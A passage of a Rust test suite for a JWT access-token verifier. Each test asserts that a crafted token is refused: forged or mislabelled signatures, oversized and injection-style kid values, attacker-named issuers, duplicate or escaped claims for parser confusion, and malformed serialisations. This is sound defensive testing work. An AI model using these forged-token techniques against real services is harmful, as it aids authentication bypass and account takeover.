        "STATIC: kid of 10 KB",
        hmac_signed(
            "HS256",
            b"",
            &header("HS256", Some(&huge)),
            &claims_for(STATIC),
        ),
        refused("token_too_large"),
    ));
    cases.push(Case::token(
        "dev: kid of 10 KB",
        signed(
            &keys.attacker,
            &json!({"alg": "ES256", "typ": "at+jwt", "kid": huge}),
            &claims("orders:read"),
        ),
        refused("token_too_large"),
    ));
    for (what, kid) in [
        ("a number", json!(1)),
        ("an array", json!(["hs"])),
        ("an object", json!({"$ne": null})),
        ("a boolean", json!(true)),
    ] {
        let mut header = header("HS256", None);
        header["kid"] = kid;
        cases.push(Case::token(
            format!("STATIC: kid {what}"),
            hmac_signed("HS256", b"", &header, &claims_for(STATIC)),
            refused("malformed_token"),
        ));
    }
    // A null kid is no kid: the only HMAC key is the secret, and this is not it.
    let mut null_kid = header("HS256", None);
    null_kid["kid"] = Value::Null;
    cases.push(Case::token(
        "STATIC: kid null, HS256 keyed with an empty secret",
        hmac_signed("HS256", b"", &null_kid, &claims_for(STATIC)),
        refused("bad_signature"),
    ));
    check(&world, cases).await;
}

/// Computes a forged signature from the signing input.
type Forge = Box<dyn Fn(&[u8]) -> Vec<u8>>;

#[tokio::test]
async fn forged_signatures() {
    let world = world().await;
    let keys = &*KEYS;
    let mut cases = Vec::new();
    let dev_claims = claims("orders:read");
    let static_claims = claims_for(STATIC);
    for (what, signature) in ecdsa_forgeries(32, &hex(P256_ORDER)) {
        cases.push(Case::token(
            format!("dev (ES256): {what}"),
            jws(
                &dev_header(&world.dev, "ES256"),
                &dev_claims.to_string(),
                |_| signature.clone(),
            ),
            refused("bad_signature"),
        ));
        cases.push(Case::token(
            format!("STATIC (ES256): {what}"),
            jws(
                &header("ES256", Some("p256")),
                &static_claims.to_string(),
                |_| signature.clone(),
            ),
            refused("bad_signature"),
        ));
    }
    for (what, signature) in ecdsa_forgeries(48, &hex(P384_ORDER)) {
        cases.push(Case::token(
            format!("STATIC (ES384): {what}"),
            jws(
                &header("ES384", Some("p384")),
                &static_claims.to_string(),
                |_| signature.clone(),
            ),
            refused("bad_signature"),
        ));
    }
    // A genuine ECDSA signature in ASN.1 DER instead of JOSE's fixed r || s.
    for (alg, key) in [("ES256", &keys.p256), ("ES384", &keys.p384)] {
        cases.push(Case::token(
            format!("STATIC ({alg}): a genuine signature, DER-encoded"),
            jws(
                &header(alg, Some(&key.kid)),
                &static_claims.to_string(),
                |input| ecdsa_der(&key.raw_signature(input)),
            ),
            refused("bad_signature"),
        ));
    }
    // Ed25519.
    let mut identity = vec![0u8; 64];
    identity[0] = 1;
    let forged_ed: Vec<(&str, Forge)> = vec![
        ("all zero", Box::new(|_: &[u8]| vec![0u8; 64])),
        ("all ones", Box::new(|_: &[u8]| vec![0xff; 64])),
        (
            "R the identity point, S = 0",
            Box::new(move |_: &[u8]| identity.clone()),
        ),
        (
            "a genuine signature with S + L (non-canonical S)",
            Box::new(|input: &[u8]| {
                let mut signature = keys.ed.raw_signature(input);
                let order = hex(ED25519_ORDER_LE);
                let mut carry = 0u16;
                for (byte, add) in signature[32..].iter_mut().zip(order) {
                    let sum = u16::from(*byte) + u16::from(add) + carry;
                    *byte = sum as u8;
                    carry = sum >> 8;
                }
                signature
            }),
        ),
        ("63 bytes", Box::new(|_: &[u8]| vec![0u8; 63])),
    ];
    for (what, forge) in &forged_ed {
        cases.push(Case::token(
            format!("STATIC (EdDSA): {what}"),
            jws(
                &header("EdDSA", Some("ed")),
                &static_claims.to_string(),
                |input| forge(input),
            ),
            refused("bad_signature"),
        ));
    }
    // RSA.
    let modulus = decode(keys.rsa.jwk()["n"].as_str().unwrap());
    let mut one = vec![0u8; 256];
    one[255] = 1;
    let forged_rsa: Vec<(&str, Forge)> = vec![
        ("all zero", Box::new(|_: &[u8]| vec![0u8; 256])),
        ("s = 1", Box::new(move |_: &[u8]| one.clone())),
        (
            "s = n, the modulus",
            Box::new(move |_: &[u8]| modulus.clone()),
        ),
        (
            "a genuine signature with a leading zero byte",
            Box::new(|input: &[u8]| [&[0u8][..], &keys.rsa.raw_signature(input)].concat()),
        ),
        (
            "a genuine signature missing its last byte",
            Box::new(|input: &[u8]| {
                let mut signature = keys.rsa.raw_signature(input);
                signature.pop();
                signature
            }),
        ),
    ];
    for (what, forge) in &forged_rsa {
        cases.push(Case::token(
            format!("STATIC (RS256): {what}"),
            jws(
                &header("RS256", Some("rsa")),
                &static_claims.to_string(),
                |input| forge(input),
            ),
            refused("bad_signature"),
        ));
    }
    // A genuine RS256 signature under another RSA algorithm's name.
    for alg in ["RS384", "RS512", "PS256", "PS384", "PS512"] {
        cases.push(Case::token(
            format!("STATIC: a genuine RS256 signature labelled {alg}"),
            signed(&keys.rsa, &header(alg, Some("rsa")), &static_claims),
            refused("bad_signature"),
        ));
    }
    // HMAC: an empty secret, a truncated MAC, the right MAC of the wrong algorithm.
    cases.push(Case::token(
        "STATIC (HS256): keyed with an empty secret",
        hmac_signed("HS256", b"", &header("HS256", Some("hs")), &static_claims),
        refused("bad_signature"),
    ));
    cases.push(Case::token(
        "STATIC (HS256): a genuine MAC truncated to 16 bytes",
        jws(
            &header("HS256", Some("hs")),
            &static_claims.to_string(),
            |input| hmac_sign("HS256", HMAC_SECRET, input)[..16].to_vec(),
        ),
        refused("bad_signature"),
    ));
    cases.push(Case::token(
        "STATIC (HS512): a genuine HS256 MAC labelled HS512",
        jws(
            &header("HS512", Some("hs")),
            &static_claims.to_string(),
            |input| hmac_sign("HS256", HMAC_SECRET, input),
        ),
        refused("bad_signature"),
    ));
    check(&world, cases).await;
}

/// Claims to set, by name.
type ClaimEdits = Vec<(&'static str, Value)>;

#[tokio::test]
async fn time_claims() {
    let world = world().await;
    let now = now();
    let mut cases = Vec::new();
    let edits: Vec<(&str, ClaimEdits, Expect)> = vec![
        (
            "expired two minutes ago",
            vec![("iat", json!(now - 3600)), ("exp", json!(now - 120))],
            refused("expired"),
        ),
        (
            "expired in 1970",
            vec![("iat", json!(0)), ("exp", json!(1))],
            refused("expired"),
        ),
        (
            "exp = 0",
            vec![("iat", json!(0)), ("exp", json!(0))],
            refused("expired"),
        ),
        (
            "expired, with a fraction",
            vec![
                ("iat", json!(now - 600)),
                ("exp", json!(now as f64 - 100.5)),
            ],
            refused("expired"),
        ),
        (
            "not yet valid (nbf in 5 min)",
            vec![("nbf", json!(now + 300))],
            refused("not_yet_valid"),
        ),
        (
            "issued in the future (iat in 5 min)",
            vec![("iat", json!(now + 300))],
            refused("issued_in_future"),
        ),
        (
            "issued after it expires",
            vec![("iat", json!(now + 20)), ("exp", json!(now + 10))],
            refused("malformed_claim"),
        ),
        (
            "lives two days",
            vec![("exp", json!(now + 2 * 24 * 3600))],
            refused("lifetime_too_long"),
        ),
        (
            "exp as a string",
            vec![("exp", json!("tomorrow"))],
            refused("malformed_claim"),
        ),
        (
            "exp as a numeric string",
            vec![("exp", json!((now + 600).to_string()))],
            refused("malformed_claim"),
        ),
        (
            "exp negative",
            vec![("exp", json!(-5))],
            refused("malformed_claim"),
        ),
        (
            "exp null",
            vec![("exp", json!(null))],
            refused("malformed_claim"),
        ),
        (
            "exp a boolean",
            vec![("exp", json!(true))],
            refused("malformed_claim"),
        ),
        (
            "exp an array",
            vec![("exp", json!([now + 600]))],
            refused("malformed_claim"),
        ),
        (
            "exp an object",
            vec![("exp", json!({"$date": now + 600}))],
            refused("malformed_claim"),
        ),
        (
            "nbf as a string",
            vec![("nbf", json!("now"))],
            refused("malformed_claim"),
        ),
        (
            "iat as a string",
            vec![("iat", json!("now"))],
            refused("malformed_claim"),
        ),
        (
            "iat negative",
            vec![("iat", json!(-1))],
            refused("malformed_claim"),
        ),
    ];
    for (what, changes, expect) in &edits {
        let mut dev_claims = claims("orders:read");
        let mut static_claims = claims_for(STATIC);
        for (name, value) in changes {
            dev_claims[*name] = value.clone();
            static_claims[*name] = value.clone();
        }
        cases.push(Case::token(
            format!("dev: {what}"),
            dev_token(&world.dev, &dev_claims),
            *expect,
        ));
        cases.push(Case::token(
            format!("STATIC: {what}"),
            static_token(&static_claims),
            *expect,
        ));
    }
    for (issuer, token) in [
        ("dev", {
            let mut claims = claims("orders:read");
            claims.as_object_mut().unwrap().remove("exp");
            dev_token(&world.dev, &claims)
        }),
        ("STATIC", {
            let mut claims = claims_for(STATIC);
            claims.as_object_mut().unwrap().remove("exp");
            static_token(&claims)
        }),
    ] {
        cases.push(Case::token(
            format!("{issuer}: no exp"),
            token,
            refused("missing_claim"),
        ));
    }
    // No iat: the lifetime counts from now.
    let mut no_iat = claims_for(STATIC);
    no_iat.as_object_mut().unwrap().remove("iat");
    no_iat["exp"] = json!(now + 2 * 24 * 3600);
    cases.push(Case::token(
        "STATIC: no iat, expires in two days",
        static_token(&no_iat),
        refused("lifetime_too_long"),
    ));
    // Numbers no `Value` can hold, written as text and signed as such.
    let ed_header = header("EdDSA", Some("ed"));
    for (what, raw, expect) in [
        (
            "exp = 2^64",
            "18446744073709551616",
            refused("lifetime_too_long"),
        ),
        ("exp = 1e300", "1e300", refused("lifetime_too_long")),
        (
            "exp = 1e999 (out of range)",
            "1e999",
            refused("malformed_token"),
        ),
        ("exp = -0.0", "-0.0", refused("expired")),
        ("exp = 0.0000001", "0.0000001", refused("expired")),
    ] {
        cases.push(Case::token(
            format!("STATIC: {what}"),
            signed_text(
                &KEYS.ed,
                &ed_header,
                &with_raw_claim(&claims_for(STATIC), "exp", raw),
            ),
            expect,
        ));
    }
    check(&world, cases).await;
}

#[tokio::test]
async fn issuer_and_audience_compare_exactly() {
    let world = world().await;
    let mut cases = Vec::new();
    for (what, issuer) in [
        ("another issuer", json!("https://evil.test/")),
        (
            "a substring (no trailing slash)",
            json!("https://issuer.test"),
        ),
        ("a shorter prefix", json!("https://issuer.tes")),
        ("a superstring (path)", json!("https://issuer.test/x")),
        (
            "a superstring (double slash)",
            json!("https://issuer.test//"),
        ),
        ("a superstring (query)", json!("https://issuer.test/?")),
        ("with a trailing space", json!("https://issuer.test/ ")),
        ("with a leading space", json!(" https://issuer.test/")),
        ("with a trailing NUL", json!("https://issuer.test/\u{0}")),
        ("in capitals", json!("HTTPS://ISSUER.TEST/")),
        ("with a default port", json!("https://issuer.test:443/")),
        ("over http", json!("http://issuer.test/")),
        ("empty", json!("")),
    ] {
        let mut claims = claims("orders:read");
        claims["iss"] = issuer;
        cases.push(Case::token(
            format!("dev key, iss {what}"),
            dev_token(&world.dev, &claims),
            refused("unknown_issuer"),
        ));
    }
    for (what, issuer, expect) in [
        ("an array", json!([ISSUER]), refused("malformed_claim")),
        ("null", json!(null), refused("malformed_claim")),
        ("a number", json!(1), refused("malformed_claim")),
    ] {
        let mut claims = claims("orders:read");
        claims["iss"] = issuer;
        cases.push(Case::token(
            format!("dev key, iss {what}"),
            dev_token(&world.dev, &claims),
            expect,
        ));
    }
    let mut no_iss = claims("orders:read");
    no_iss.as_object_mut().unwrap().remove("iss");
    cases.push(Case::token(
        "dev key, no iss",
        dev_token(&world.dev, &no_iss),
        refused("missing_claim"),
    ));
    let mut substring = claims_for(STATIC);
    substring["iss"] = json!("https://static.test");
    cases.push(Case::token(
        "STATIC key, iss a substring of STATIC",
        static_token(&substring),
        refused("unknown_issuer"),
    ));

    for (what, audience, expect) in [
        (
            "another API",
            json!("billing-api"),
            refused("wrong_audience"),
        ),
        ("a substring", json!("orders"), refused("wrong_audience")),
        ("a prefix", json!("orders-ap"), refused("wrong_audience")),
        (
            "a superstring",
            json!("orders-api-2"),
            refused("wrong_audience"),
        ),
        (
            "in capitals",
            json!("ORDERS-API"),
            refused("wrong_audience"),
        ),
        (
            "with a leading space",
            json!(" orders-api"),
            refused("wrong_audience"),
        ),
        (
            "with a trailing NUL",
            json!("orders-api\u{0}"),
            refused("wrong_audience"),
        ),
        ("empty", json!(""), refused("wrong_audience")),
        ("an empty array", json!([]), refused("wrong_audience")),
        (
            "an array of an empty string",
            json!([""]),
            refused("wrong_audience"),
        ),
        (
            "an array of others",
            json!(["billing-api", "orders"]),
            refused("wrong_audience"),
        ),
        ("a number", json!(1), refused("malformed_claim")),
        ("null", json!(null), refused("malformed_claim")),
        (
            "an object",
            json!({ AUDIENCE: true }),
            refused("malformed_claim"),
        ),
        (
            "an array with a non-string",
            json!([AUDIENCE, 1]),
            refused("malformed_claim"),
        ),
        (
            "a nested array",
            json!([[AUDIENCE]]),
            refused("malformed_claim"),
        ),
    ] {
        let mut dev_claims = claims("orders:read");
        dev_claims["aud"] = audience.clone();
        cases.push(Case::token(
            format!("dev: aud {what}"),
            dev_token(&world.dev, &dev_claims),
            expect,
        ));
        let mut static_claims = claims_for(STATIC);
        static_claims["aud"] = audience;
        cases.push(Case::token(
            format!("STATIC: aud {what}"),
            static_token(&static_claims),
            expect,
        ));
    }
    let mut no_aud = claims("orders:read");
    no_aud.as_object_mut().unwrap().remove("aud");
    cases.push(Case::token(
        "dev: no aud",
        dev_token(&world.dev, &no_aud),
        refused("missing_claim"),
    ));
    let mut no_aud = claims_for(STATIC);
    no_aud.as_object_mut().unwrap().remove("aud");
    cases.push(Case::token(
        "STATIC: no aud",
        static_token(&no_aud),
        refused("missing_claim"),
    ));
    check(&world, cases).await;
}

#[tokio::test]
async fn keys_of_another_issuer() {
    let world = world().await;
    let keys = &*KEYS;
    let impostor = dev_issuer();
    let dev_style = |kid: &str| json!({"alg": "ES256", "typ": "at+jwt", "kid": kid});
    let cases = vec![
        Case::token(
            "STATIC claimed, OTHER's Ed25519 key under its own kid",
            signed(
                &keys.other_ed,
                &header("EdDSA", Some("other-ed")),
                &claims_for(STATIC),
            ),
            refused("unknown_kid"),
        ),
        Case::token(
            "STATIC claimed, OTHER's P-256 key under the kid both issuers use",
            signed(
                &keys.other_p256,
                &header("ES256", Some("p256")),
                &claims_for(STATIC),
            ),
            refused("bad_signature"),
        ),
        Case::token(
            "STATIC claimed, OTHER's Ed25519 key under STATIC's Ed25519 kid",
            signed(
                &keys.other_ed,
                &header("EdDSA", Some("ed")),
                &claims_for(STATIC),
            ),
            refused("bad_signature"),
        ),
        Case::token(
            "STATIC claimed, OTHER's Ed25519 key, no kid",
            signed(&keys.other_ed, &header("EdDSA", None), &claims_for(STATIC)),
            refused("bad_signature"),
        ),
        Case::token(
            "OTHER claimed, STATIC's RSA key under its kid",
            signed(&keys.rsa, &header("RS256", Some("rsa")), &claims_for(OTHER)),
            refused("unknown_kid"),
        ),
        Case::token(
            "OTHER claimed, STATIC's P-256 key under the shared kid",
            signed(
                &keys.p256,
                &header("ES256", Some("p256")),
                &claims_for(OTHER),
            ),
            refused("bad_signature"),
        ),
        Case::token(
            "OTHER claimed, STATIC's HMAC secret",
            hmac_signed(
                "HS256",
                HMAC_SECRET,
                &header("HS256", Some("hs")),
                &claims_for(OTHER),
            ),
            refused("algorithm_not_allowed"),
        ),
        Case::token(
            "LAX claimed, STATIC's HMAC secret under its kid",
            hmac_signed(
                "HS256",
                HMAC_SECRET,
                &header("HS256", Some("hs")),
                &claims_for(LAX),
            ),
            refused("unknown_kid"),
        ),
        Case::token(
            "LAX claimed, STATIC's HMAC secret, no kid",
            hmac_signed(
                "HS256",
                HMAC_SECRET,
                &header("HS256", None),
                &claims_for(LAX),
            ),
            refused("key_algorithm_mismatch"),
        ),
        Case::token(
            "LAX claimed, OTHER's P-256 key under the shared kid",
            signed(
                &keys.other_p256,
                &header("ES256", Some("p256")),
                &claims_for(LAX),
            ),
            refused("bad_signature"),
        ),
        Case::token(
            "dev claimed, STATIC's P-256 key under its kid",
            signed(&keys.p256, &dev_style("p256"), &claims("orders:read")),
            refused("unknown_kid"),
        ),
        Case::token(
            "dev claimed, STATIC's P-256 key under the development kid",
            signed(
                &keys.p256,
                &dev_style(&world.dev.kid()),
                &claims("orders:read"),
            ),
            refused("bad_signature"),
        ),
        Case::token(
            "dev claimed, STATIC's P-256 key under the development issuer's next kid",
            signed(
                &keys.p256,
                &dev_style(&world.dev.next_kid()),
                &claims("orders:read"),
            ),
            refused("bad_signature"),
        ),
        Case::token(
            "STATIC claimed, signed by the development issuer",
            dev_token(&world.dev, &claims_for(STATIC)),
            refused("unknown_kid"),
        ),
        Case::token(
            "OTHER claimed, signed by the development issuer",
            dev_token(&world.dev, &claims_for(OTHER)),
            refused("unknown_kid"),
        ),
        Case::token(
            "dev claimed, signed by an impostor development issuer",
            impostor.token().scopes(["orders:read"]).sign(),
            refused("unknown_kid"),
        ),
    ];
    check(&world, cases).await;
}

#[tokio::test]
async fn critical_headers_and_token_types() {
    let world = world().await;
    let keys = &*KEYS;
    let now = now();
    let mut cases = Vec::new();
    let ext = "https://attacker.test/ext";
    for (what, extra) in [
        (
            "naming a registered claim",
            json!({"crit": ["exp"], "exp": now + 600}),
        ),
        (
            "naming an unknown extension",
            json!({"crit": [ext], ext: true}),
        ),
        (
            "b64 false (RFC 7797)",
            json!({"crit": ["b64"], "b64": false}),
        ),
        (
            "naming a parameter that is absent",
            json!({"crit": ["nothing"]}),
        ),
        ("empty", json!({"crit": []})),
        ("a string", json!({"crit": "exp"})),
        ("an object", json!({"crit": {"exp": true}})),
        ("null", json!({"crit": null})),
    ] {
        let mut static_header = header("EdDSA", Some("ed"));
        let mut dev = dev_header(&world.dev, "ES256");
        for (name, value) in extra.as_object().unwrap() {
            static_header[name] = value.clone();
            dev[name] = value.clone();
        }
        cases.push(Case::token(
            format!("STATIC: crit {what}, validly signed"),
            signed(&keys.ed, &static_header, &claims_for(STATIC)),
            refused("critical_header"),
        ));
        cases.push(Case::token(
            format!("dev: crit {what}"),
            jws(&dev, &claims("orders:read").to_string(), |_| vec![7; 64]),
            refused("critical_header"),
        ));
    }

    // The development issuer requires `at+jwt` (RFC 9068).
    for typ in [
        None,
        Some("JWT"),
        Some("jwt"),
        Some("application/jwt"),
        Some("id_token+jwt"),
        Some("dpop+jwt"),
        Some("logout+jwt"),
        Some("secevent+jwt"),
        Some("token-introspection+jwt"),
        Some("at+jwt "),
        Some("at+jwt; charset=utf-8"),
        Some("at+jwt+jwt"),
        Some(""),
    ] {
        cases.push(Case::token(
            format!("dev: typ {typ:?}"),
            world.dev.sign_claims(typ, &claims("orders:read")),
            refused("wrong_token_type"),
        ));
    }
    // STATIC takes no typ, `JWT` or `at+jwt`; any other type is another kind of token.
    for typ in [
        "dpop+jwt",
        "application/dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "token-introspection+jwt",
        "JOSE",
        "JOSE+JSON",
        "jwt; x",
        "",
    ] {
        cases.push(Case::token(
            format!("STATIC: typ {typ:?}"),
            signed(
                &keys.ed,
                &json!({"alg": "EdDSA", "kid": "ed", "typ": typ}),
                &claims_for(STATIC),
            ),
            refused("wrong_token_type"),
        ));
    }
    for (what, typ) in [("a number", json!(1)), ("an array", json!(["at+jwt"]))] {
        cases.push(Case::token(
            format!("STATIC: typ {what}"),
            signed(
                &keys.ed,
                &json!({"alg": "EdDSA", "kid": "ed", "typ": typ}),
                &claims_for(STATIC),
            ),
            refused("malformed_token"),
        ));
    }

    // ID tokens and other tokens of the same issuer, used as access tokens.
    let id_token = |issuer: &str, audience: &str| {
        json!({
            "iss": issuer, "sub": "alice", "aud": audience, "azp": "app-1",
            "iat": now, "exp": now + 600, "auth_time": now - 60, "nonce": "n-0S6_WzA2Mj",
            "email": "alice@example.com",
        })
    };
    cases.push(Case::token(
        "dev: an ID token (typ JWT, aud the client)",
        world
            .dev
            .sign_claims(Some("JWT"), &id_token(ISSUER, "app-1")),
        refused("wrong_token_type"),
    ));
    cases.push(Case::token(
        "dev: an ID token whose aud is this API",
        world
            .dev
            .sign_claims(Some("JWT"), &id_token(ISSUER, AUDIENCE)),
        refused("wrong_token_type"),
    ));
    cases.push(Case::token(
        "dev: an ID token relabelled at+jwt (no client_id, no jti)",
        dev_token(&world.dev, &id_token(ISSUER, AUDIENCE)),
        refused("missing_claim"),
    ));
    cases.push(Case::token(
        "STATIC: an ID token (typ JWT, aud the client)",
        signed(
            &keys.ed,
            &json!({"alg": "EdDSA", "kid": "ed", "typ": "JWT"}),
            &id_token(STATIC, "app-1"),
        ),
        refused("wrong_audience"),
    ));
    cases.push(Case::token(
        "STATIC: an ID token without typ",
        static_token(&id_token(STATIC, "app-1")),
        refused("wrong_audience"),
    ));
    let mut logout = claims_for(STATIC);
    logout["events"] = json!({"http://schemas.openid.net/event/backchannel-logout": {}});
    cases.push(Case::token(
        "STATIC: a logout token",
        signed(
            &keys.ed,
            &json!({"alg": "EdDSA", "kid": "ed", "typ": "logout+jwt"}),
            &logout,
        ),
        refused("wrong_token_type"),
    ));
    let mut proof = claims_for(STATIC);
    proof["htm"] = json!("GET");
    proof["htu"] = json!("https://api.test/orders");
    cases.push(Case::token(
        "STATIC: a DPoP proof",
        signed(
            &keys.ed,
            &json!({"alg": "EdDSA", "kid": "ed", "typ": "dpop+jwt", "jwk": keys.ed.jwk()}),
            &proof,
        ),
        refused("wrong_token_type"),
    ));
    check(&world, cases).await;
}

/// A compact JWS of raw header and payload bytes, signed by `key`.
fn raw_jws(key: &TestKey, header: &[u8], payload: &[u8]) -> String {
    let input = format!("{}.{}", b64(header), b64(payload));
    let signature = key.raw_signature(input.as_bytes());
    format!("{input}.{}", b64(signature))
}

#[tokio::test]
async fn duplicate_claims_and_parser_differentials() {
    let world = world().await;
    let keys = &*KEYS;
    let now = now();
    let ed = &keys.ed;
    let good_header = header("EdDSA", Some("ed")).to_string();
    let base = claims_for(STATIC).to_string();
    let prepend = |member: &str| base.replacen('{', &format!("{{{member},"), 1);
    let payload = |payload: &str| raw_jws(ed, good_header.as_bytes(), payload.as_bytes());
    let mut cases = vec![
        Case::token(
            "a second sub",
            payload(&prepend(r#""sub":"admin""#)),
            refused("duplicate_claim"),
        ),
        Case::token(
            "a second, expired exp",
            payload(&prepend(&format!(r#""exp":{}"#, now - 1000))),
            refused("duplicate_claim"),
        ),
        Case::token(
            "a second iss",
            payload(&prepend(&format!(r#""iss":"{ISSUER}""#))),
            refused("duplicate_claim"),
        ),
        Case::token(
            "a second aud",
            payload(&prepend(r#""aud":"billing-api""#)),
            refused("duplicate_claim"),
        ),
        Case::token(
            "a second scope",
            payload(&prepend(r#""scope":"orders:read admin""#)),
            refused("duplicate_claim"),
        ),
        Case::token(
            "a second sub, its name escaped (s\\u0075b)",
            payload(&prepend(r#""s\u0075b":"admin""#)),
            refused("duplicate_claim"),
        ),
        Case::token(
            "a duplicate inside a nested claim",
            payload(&prepend(r#""ext":{"role":"user","role":"admin"}"#)),
            refused("duplicate_claim"),
        ),
        Case::token(
            "a second alg in the header",
            raw_jws(
                ed,
                br#"{"alg":"EdDSA","kid":"ed","alg":"none"}"#,
                base.as_bytes(),
            ),
            refused("duplicate_claim"),
        ),
        Case::token(
            "a second alg in the header, escaped (\\u0061lg)",
            raw_jws(
                ed,
                br#"{"alg":"EdDSA","kid":"ed","\u0061lg":"none"}"#,
                base.as_bytes(),
            ),
            refused("duplicate_claim"),
        ),
        Case::token(
            "a second kid in the header",
            raw_jws(
                ed,
                br#"{"alg":"EdDSA","kid":"attacker","kid":"ed"}"#,
                base.as_bytes(),
            ),
            refused("duplicate_claim"),
        ),
        Case::token(
            "a claim carrying JSON in serde_json's reserved RawValue name",
            payload(&prepend(
                r#""ext":{"$serde_json::private::RawValue":"{\"role\":\"admin\"}"}"#,
            )),
            refused("malformed_token"),
        ),
        Case::token(
            "a header member in serde_json's reserved Number name",
            raw_jws(
                ed,
                br#"{"alg":"EdDSA","kid":"ed","$serde_json::private::Number":"1"}"#,
                base.as_bytes(),
            ),
            refused("malformed_token"),
        ),
        Case::token(
            "a second object after the claims",
            payload(&format!(r#"{base}{{"sub":"admin"}}"#)),
            refused("malformed_token"),
        ),
        Case::token(
            "trailing text after the claims",
            payload(&format!("{base} admin")),
            refused("malformed_token"),
        ),
        Case::token(
            "a byte order mark before the claims",
            payload(&format!("\u{feff}{base}")),
            refused("malformed_token"),
        ),
        Case::token(
            "a comment in the claims",
            payload(&base.replacen('{', "{/* admin */", 1)),
            refused("malformed_token"),
        ),
        Case::token(
            "single-quoted names",
            payload(&base.replace('"', "'")),
            refused("malformed_token"),
        ),
        Case::token(
            "claims that are not UTF-8",
            raw_jws(
                ed,
                good_header.as_bytes(),
                &[&prepend(r#""x":""#).as_bytes()[..14], b"\xff\xfe\"}"].concat(),
            ),
            refused("malformed_token"),
        ),
        Case::token(
            "claims in an array",
            payload(&format!("[{base}]")),
            refused("malformed_token"),
        ),
        Case::token(
            "claims as a JSON string",
            payload(&json!(base).to_string()),
            refused("malformed_token"),
        ),
        Case::token("claims null", payload("null"), refused("malformed_token")),
        Case::token(
            "a claim nested 40 deep",
            payload(&prepend(&format!(
                r#""deep":{}{}"#,
                "[".repeat(40),
                "]".repeat(40)
            ))),
            refused("malformed_token"),
        ),
        Case::token(
            "a header that is an array",
            raw_jws(ed, br#"[{"alg":"EdDSA","kid":"ed"}]"#, base.as_bytes()),
            refused("malformed_token"),
        ),
    ];
    // Claims of the wrong type, in validly signed tokens: refused, never coerced.
    for (name, value) in [
        ("sub", json!(42)),
        ("sub", json!({"id": "admin"})),
        ("client_id", json!(["app-1", "admin-app"])),
        ("jti", json!(7)),
        ("scope", json!(1)),
        ("scope", json!(["orders:read", 1])),
        ("scp", json!({"orders:read": true})),
        ("roles", json!(5)),
    ] {
        let mut claims = claims_for(STATIC);
        claims[name] = value.clone();
        cases.push(Case::token(
            format!("{name} as {value}"),
            static_token(&claims),
            refused("malformed_claim"),
        ));
    }
    let mut azp = claims_for(STATIC);
    azp.as_object_mut().unwrap().remove("client_id");
    azp["azp"] = json!(1);
    cases.push(Case::token(
        "azp a number, no client_id",
        static_token(&azp),
        refused("malformed_claim"),
    ));
    // The claims RFC 9068 requires, each missing from a development-issuer token.
    for name in ["sub", "client_id", "iat", "jti"] {
        let mut claims = claims("orders:read");
        claims.as_object_mut().unwrap().remove(name);
        cases.push(Case::token(
            format!("dev: no {name}"),
            dev_token(&world.dev, &claims),
            refused("missing_claim"),
        ));
    }
    check(&world, cases).await;
}

#[tokio::test]
async fn token_shapes_and_sizes() {
    let world = world().await;
    let keys = &*KEYS;
    let valid = static_token(&claims_for(STATIC));
    let [h, p, s] = parts(&valid);
    let general =
        json!({"payload": p, "signatures": [{"protected": h, "signature": s}]}).to_string();
    let flattened = json!({"payload": p, "protected": h, "signature": s}).to_string();
    let jwe_header =
        b64(json!({"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": "rsa"}).to_string());
    let dir_header = b64(json!({"alg": "dir", "enc": "A256GCM", "kid": "hs"}).to_string());
    let padded = format!(
        "{}.{p}.{s}",
        STANDARD.encode(json!({"alg": "EdDSA", "kid": "ed"}).to_string())
    );
    let nested = raw_jws(
        &keys.ed,
        json!({"alg": "EdDSA", "kid": "ed", "cty": "JWT"})
            .to_string()
            .as_bytes(),
        valid.as_bytes(),
    );
    let mut big = claims_for(STATIC);
    big["padding"] = json!("x".repeat(9 * 1024));
    let cases = vec![
        Case::token(
            "one part",
            "eyJhbGciOiJFZERTQSJ9",
            refused("malformed_token"),
        ),
        Case::token("two parts", format!("{h}.{p}"), refused("malformed_token")),
        Case::token(
            "four parts",
            format!("{valid}.{s}"),
            refused("malformed_token"),
        ),
        Case::token(
            "a trailing dot",
            format!("{valid}."),
            refused("malformed_token"),
        ),
        Case::token(
            "JWE compact serialisation (five parts)",
            format!(
                "{jwe_header}.{}.{}.{}.{}",
                b64([1u8; 256]),
                b64([2u8; 12]),
                b64("{}"),
                b64([3u8; 16])
            ),
            refused("malformed_token"),
        ),
        Case::token(
            "JWE with alg dir (empty encrypted key)",
            format!(
                "{dir_header}..{}.{}.{}",
                b64([2u8; 12]),
                b64("{}"),
                b64([3u8; 16])
            ),
            refused("malformed_token"),
        ),
        Case::token(
            "JWS JSON general serialisation",
            general.clone(),
            refused("malformed_token"),
        ),
        Case::token(
            "JWS JSON flattened serialisation",
            flattened,
            refused("malformed_token"),
        ),
        Case::token(
            "the JSON serialisation, base64url-encoded",
            b64(&general),
            refused("malformed_token"),
        ),
        Case::token(
            "an empty header part",
            format!(".{p}.{s}"),
            refused("malformed_token"),
        ),
        Case::token(
            "an empty payload part",
            format!("{h}..{s}"),
            refused("malformed_token"),
        ),
        Case::token(
            "header and payload swapped",
            format!("{p}.{h}.{s}"),
            refused("malformed_token"),
        ),
        Case::token(
            "a padded, standard-base64 header",
            padded,
            refused("malformed_token"),
        ),
        Case::token(
            "a standard-base64 signature",
            format!("{h}.{p}.{}", STANDARD.encode(decode(&s))),
            refused("malformed_token"),
        ),
        Case::token(
            "a space inside",
            format!("{h}.{p} .{s}"),
            refused("malformed_token"),
        ),
        Case::token(
            "a non-ASCII character",
            format!("{h}.{p}.{s}\u{e9}"),
            refused("malformed_token"),
        ),
        Case::token(
            "two tokens, comma-separated",
            format!("{valid}, Bearer {valid}"),
            refused("malformed_token"),
        ),
        Case::token(
            "a nested JWT as the payload (cty JWT)",
            nested,
            refused("malformed_token"),
        ),
        Case::token(
            "8 KiB of junk (at the cap)",
            "a".repeat(8 * 1024),
            refused("malformed_token"),
        ),
        Case::token(
            "8 KiB + 1 of junk",
            "a".repeat(8 * 1024 + 1),
            refused("token_too_large"),
        ),
        Case::token(
            "1 MiB of junk",
            "a".repeat(1024 * 1024),
            refused("token_too_large"),
        ),
        Case::token(
            "a genuine token with a 9 KiB claim",
            static_token(&big),
            refused("token_too_large"),
        ),
    ];
    check(&world, cases).await;
}

#[tokio::test]
async fn signature_stripping_and_swapping() {
    let world = world().await;
    let keys = &*KEYS;
    // A valid token, accepted once, so that it sits in the verified-token cache: nothing
    // below may profit from that.
    let alice = world
        .dev
        .token()
        .subject("alice")
        .scopes(["orders:read"])
        .sign();
